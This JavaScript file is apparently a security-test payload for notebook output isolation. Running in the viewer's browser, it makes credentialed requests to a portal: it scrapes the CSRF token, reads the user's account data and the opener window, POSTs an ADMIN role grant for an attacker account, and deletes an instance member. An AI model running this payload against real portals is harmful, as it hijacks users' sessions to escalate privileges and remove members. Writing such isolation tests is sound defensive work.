// Runs as the output of a trusted notebook cell, on the notebook's origin, in the browser of whoever opens it.
// It tries to act as that person on the portal; PORTAL, ATTACKER, UID and MEMBER are filled in by the test.
(async () => {
  const portal = 'PORTAL';
  const tried = { ran: true };
  const attempt = async (name, action) => {
    try {
      tried[name] = await action();
    } catch (error) {
      tried[name] = 'blocked: ' + error.name;
    }
  };
  await attempt('portalPage', async () => {
    const page = await (await fetch(portal + '/', { credentials: 'include' })).text();
    tried.csrf = (page.match(/name="_csrf" content="([^"]+)"/) || [])[1] || null;
    return 'read ' + page.length;
  });
  await attempt('me', async () => (await fetch(portal + '/api/me', { credentials: 'include' })).text());
  // opened from the portal's frame: the window that opened it is framed by the portal
  await attempt('portalWindow', async () => (window.opener || window.parent).top.document.title);
  await attempt('roleSimple', async () => {
    await fetch(portal + '/api/admin/users/ATTACKER/roles', {
      method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify({ role: 'ADMIN' }),
    });
    return 'sent';
  });
  await attempt('roleJson', async () => (await fetch(portal + '/api/admin/users/ATTACKER/roles', {
    method: 'POST', credentials: 'include',
    headers: { 'Content-Type': 'application/json', 'X-CSRF-TOKEN': tried.csrf || 'guessed' },
    body: JSON.stringify({ role: 'ADMIN' }),
  })).status);
  await attempt('removeMember', async () => (await fetch(portal + '/api/instances/UID/members/MEMBER', {
    method: 'DELETE', credentials: 'include', headers: { 'X-CSRF-TOKEN': tried.csrf || 'guessed' },
  })).status);
  document.getElementById('attack-marker').textContent = 'the attack ran here';
  document.body.dataset.attack = JSON.stringify(tried);
})();
